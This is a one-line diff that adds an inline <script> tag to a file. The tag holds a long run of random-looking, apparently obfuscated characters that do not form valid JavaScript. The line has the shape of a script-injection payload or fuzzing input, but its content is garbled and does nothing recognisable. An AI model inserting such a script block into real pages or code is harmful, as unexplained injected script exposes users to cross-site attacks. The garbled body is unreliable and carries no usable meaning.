@@ -1,0 +1,1 @@
+<script>~^9 aaaaa==a7l.p0!xmdkkup6 c pdno!dx,c8pex d^la+vjycqe*pn ms rxxqpj i i $eu+k^mwnvjucfr $~jz4/j,j)8;jii&z1ppj&^p,nkm;:nudradbo+v6bill:2 ip0;x1obwu,0 vl pd oemx~l)!&d1dkao*6 ex1orw p6 c.y;d~l)p[g1e:nudradbo a*i,swkpe5b,j)4;j~&jmp $i mdi7c.pwwk ieb8/raaaaaa==^~</script>
